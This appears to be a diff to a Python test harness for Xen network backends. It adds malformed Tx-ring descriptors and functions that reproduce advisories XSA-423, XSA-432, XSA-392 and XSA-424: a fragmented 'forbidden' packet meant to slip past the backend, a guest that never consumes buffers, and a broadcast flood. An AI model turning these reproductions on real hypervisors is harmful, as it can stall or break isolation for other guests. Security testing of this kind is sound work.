@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import signal
 import struct
 from ipaddress import ip_address
+from typing import NoReturn
 
 from hvd.domains.guest import Guest
-from hvd.domains.net.frontend import NetFrontend
+from hvd.domains.net.frontend import RING_PAGES, NetFrontend
+from hvd.transport.pages import PAGE_SIZE
 from hvd.transport.protocols.net import parse_mac
 from hvd.transport.xenbus_state import XenbusState
 
@@ -15,6 +18,8 @@ EVERYBODY = b"\xff" * 6
 HONEST, FORBIDDEN = b"\x88\xb5", b"\x88\xb6"
 """Types of what the victim may be told, and may not: Ethernet's two for local experiments."""
 LISTEN_S = 15.0
+OWN_PAGE, LARGE = 200, 1400
+"""A page of the vif's that nothing else is sent from so soon, and bytes of a large packet."""
 MORE, EXTRA = 4, 8
 UNKNOWN_REF = 0x00FF_FFFF
 CHAINS: dict[str, list[bytes]] = {
@@ -23,6 +28,8 @@ CHAINS: dict[str, list[bytes]] = {
     "a page that was not granted": [struct.pack("<IHHHH", UNKNOWN_REF, 0, 0, 0, 60)],
     "parts without end": [struct.pack("<IHHHH", 0, 0, MORE, 0, 4000)] + [struct.pack("<IHHHH", 0, 0, MORE, 0, 1)] * 60,
     "extra infos without end": [struct.pack("<IHHHH", 0, 0, EXTRA, 0, 60)] + [bytes((1, 1, 16, 0, 1)) + bytes(7)] * 60,
+    "a packet of no bytes": [struct.pack("<IHHHH", 0, 0, 0, 0, 0)],
+    "parts of no bytes": [struct.pack("<IHHHH", 0, 0, MORE, 0, 100)] + [struct.pack("<IHHHH", 0, 0, MORE, 0, 0)] * 20,
     "a packet that does not end": [struct.pack("<IHHHH", 0, 0, MORE, 0, 60)],
 }
 """Slots of the Tx ring."""
@@ -46,6 +53,43 @@ def send(guest: Guest, kind: str) -> str:
     vif.send(forge(vif, kind))
     vif.send(EVERYBODY + vif.mac + HONEST + bytes(46))
     return "sent both"
+
+
+SPLINTERS = ((1,) * 17, (13, *(1,) * 15, 5), (0,) * 16 + (14,), (14, *(0,) * 16), (6, 6, 1, 1), (1, 12, 0, 1))
+"""How many bytes are in each part but the last, which has the rest: most cut the packet's type in two."""
+
+
+def send_splinters(guest: Guest) -> str:
+    """XSA-423, XSA-432: the forbidden packet in as many parts as there may be; then the honest one, in one."""
+    vif = guest.device("vif")
+    queue, forged, honest = vif.queues[0], forge(vif, "plain"), EVERYBODY + vif.mac + HONEST + bytes(46)
+    memory, ref = queue.memory[PAGE_SIZE * (RING_PAGES + OWN_PAGE) :], queue.ref + RING_PAGES + OWN_PAGE
+    memory[: len(forged) + len(honest)] = forged + honest
+    for parts in SPLINTERS:
+        at = 0
+        for number, size in enumerate((*parts, len(forged) - sum(parts))):
+            more = MORE if number < len(parts) else 0
+            in_all = size if number else len(forged)  # so says the first
+            queue.tx.push(struct.pack("<IHHHH", ref, at, more, OWN_PAGE, in_all))
+            at += size
+    queue.tx.push(struct.pack("<IHHHH", ref, len(forged), 0, OWN_PAGE, len(honest)))
+    queue.tx_endpoint.notify()
+    return f"sent a packet in {len(SPLINTERS)} ways"
+
+
+def take_nothing(guest: Guest) -> NoReturn:
+    """XSA-392, XSA-424: packets are never read, nor is a buffer given back."""
+    guest.device("vif")
+    guest.runtime.store.write("data/listens", "1")
+    while True:
+        signal.pause()
+
+
+def flood(guest: Guest, count: str) -> str:
+    """Large packets for everybody."""
+    vif = guest.device("vif")
+    vif.send_many([EVERYBODY + vif.mac + FORBIDDEN + bytes(LARGE)] * int(count))
+    return f"sent {int(count):,} packets"
 
 
 def listen(guest: Guest) -> str:
